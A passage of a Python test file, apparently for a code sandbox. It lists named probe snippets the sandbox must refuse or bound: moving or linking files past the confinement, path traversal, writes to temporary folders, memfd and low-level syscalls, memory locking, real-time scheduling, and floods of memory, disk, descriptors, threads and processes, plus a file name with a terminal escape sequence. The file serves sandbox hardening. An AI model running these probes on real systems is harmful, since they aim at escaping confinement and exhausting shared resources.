    _refused("cut-by-name", "results", "os.truncate('{canary}/alive', 0)", "os.truncate('own', 0)"),
    _refused("moved-out", "results", "os.rename('own', '{canary}/new')", "os.rename('own', '/tmp/{marker}')"),
    _refused("moved-in", "results", "os.rename('{canary}/alive', 'stolen')", "os.rename('{canary}', 'stolen')"),
    _refused(
        "hard-link-to-the-outside", "results", "os.link('{canary}/alive', 'hard')", "os.link('own', '/tmp/{marker}')"
    ),
    _refused(
        "climbs-out", "results", "open('../' * 15 + '{canary}/new', 'w')", "open('/proc/self/cwd/../../{marker}', 'w')"
    ),
    _refused("by-an-open-folder", "results", "os.open('{canary}/new', 65, 0o600, dir_fd=os.open('/', 0))"),
    _refused(
        "pipe-with-a-name", "results", "os.mkfifo('/tmp/{marker}')", "os.mkfifo('fifo')", "os.mknod('/tmp/{marker}')"
    ),
    _refused(
        "temporary-folders-written",
        "results",
        *(
            f"open('{folder}/{{marker}}', 'w')"
            for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/dev/mqueue")
        ),
    ),
    _refused("program-as-a-file", "results", "call('memfd_create', b'x', 0)", "call('syscall', 447, 0)"),
    _refused(
        "rings-and-maps",
        "resources",
        "call('syscall', 425, 8, ctypes.create_string_buffer(120))",
        "call('syscall', 321 if intel else 280, 0, None, 0)",
        "call('syscall', 323 if intel else 282, 0)",
        "call('syscall', 298 if intel else 241, None, 0, -1, -1, 0)",
    ),
    _refused(
        "locks-its-memory", "resources", "call('mlockall', 1)", "call('mlock', ctypes.create_string_buffer(8192), 8192)"
    ),
    _refused("writes-all-to-disk", "resources", "call('syscall', 162 if intel else 81)"),
    _refused(
        "real-time",
        "resources",
        "os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))",
        "os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1))",
    ),
)

BOUNDS = (
    _bounded("memory-without-a-mapping", 0, "call('memfd_create', b'x', 0)"),
    _bounded("memory-of-shared-pages", 2 << 30, "mmap.mmap(-1, 64 << 20)", step=64 << 20),
    _bounded("memory-without-reserve", 2 << 30, "mmap.mmap(-1, 64 << 20, flags=0x4002)", step=64 << 20),
    _bounded("memory-of-tensors", 2 << 30, "torch.empty(64 << 20, dtype=torch.uint8)", step=64 << 20),
    _bounded("memory-of-the-environment", 2 << 30, "os.putenv(str(taken), 'x' * (64 << 20))", step=64 << 20),
    _bounded(
        "memory-of-a-mapped-file",
        2 << 30,
        "mmap.mmap(os.open('own', os.O_RDWR), 1 << 20)",
        before="open('own', 'wb').truncate(1 << 20)",
        step=1 << 20,
    ),
    _bounded(
        "memory-in-pipes",
        8 << 20,
        "fill(*os.pipe())",
        before="def fill(out, into):\n    os.set_blocking(into, False)\n    return os.write(into, bytes(1 << 16))",
        step=1 << 16,
    ),
    _bounded("pipes-made-larger", 0, "call('fcntl', os.pipe()[1], 1031, 1 << 20)"),
    _bounded("descriptors-by-the-thousand", 128, "os.open('/dev/null', 0)"),
    _bounded("events-by-the-thousand", 0, "call('eventfd', 0, 0)"),
    _bounded("epolls-by-the-thousand", 0, "call('epoll_create1', 0)"),
    _bounded("timers-by-the-thousand", 0, "call('timerfd_create', 0, 0)"),
    _bounded("locks-by-the-thousand", 0, "call('fcntl', 1, 6, struct.pack('hhqqi4x', 0, 0, 2 * taken, 1, 0))"),
    _bounded("files-of-nothing", 64, "os.close(os.open(f'empty-{taken}', os.O_CREAT | os.O_WRONLY))"),
    _bounded("files-deleted-but-open", 64, "(open(f'gone-{taken}', 'w'), os.unlink(f'gone-{taken}'))"),
    _bounded("folders-of-nothing", 64, "os.mkdir(f'folder-{taken}')"),
    _bounded("folders-in-folders", 64, "(os.mkdir('d' * 200), os.chdir('d' * 200))"),
    _bounded("folders-without-a-mode", 64, "os.mkdir(f'locked-{taken}', 0)", before="os.umask(0o777)"),
    _bounded("files-with-odd-names", 64, "open(bytes([taken % 255 + 1]) * 200 + b'\\n\\xff\\x1b[2J', 'w').close()"),
    _bounded("links-by-the-thousand", 0, "(open('own', 'w'), os.link('own', f'link-{taken}'))"),
    _bounded("links-to-themselves", 0, "os.symlink(f'loop-{taken}', f'loop-{taken}')"),
    _bounded("disk-in-small-pieces", 64 << 20, "open(f'piece-{taken}', 'wb').write(bytes(1 << 20))", step=1 << 20),
    _bounded(
        "disk-in-one-piece",
        1 << 20,
        "file.write(bytes(1 << 16))",
        before="file = open('large', 'wb', buffering=0)",
        step=1 << 16,
    ),
    _bounded(
        "disk-set-aside",
        1 << 20,
        "os.posix_fallocate(file, taken, 1 << 16)",
        before="file = os.open('large', os.O_CREAT | os.O_RDWR)",
        step=1 << 16,
    ),
    _bounded(
        "disk-with-holes", 0, "os.truncate(file, 1 << 40)", before="file = os.open('sparse', os.O_CREAT | os.O_RDWR)"
    ),
    _bounded(
        "threads-with-small-stacks",
        64,
        "threading.Thread(target=time.sleep, args=(9,), daemon=True).start()",
        before="threading.stack_size(32768)",
    ),
    _bounded(
        "threads-one-after-another",
        64,
        "(lambda thread: (thread.start(), thread.join()))(threading.Thread(target=int))",
    ),
    _bounded("processes-by-clone", 0, "call('syscall', 56 if intel else 220, 17, 0, 0, 0, 0)"),
    _bounded("processes-by-spawn", 0, "os.posix_spawn('/bin/true', ['true'], {})"),
    _bounded("limits-raised-again", 0, "resource.setrlimit(resource.RLIMIT_AS, (1 << 50, 1 << 50))"),
)

HEAVY = tuple(Hostile(name, source, "parsers", max_score=90) for name, source in heavy.HEAVY.items())

HOSTILE: tuple[Hostile, ...] = (
    *_written(),
    *EXITS,
    *RESOURCES,
    *ODD_ANSWERS,
    *PROTOCOL,
    *TERMINAL,
    *PARSERS,
    *REACHES,
    *BOUNDS,
    *HEAVY,
)
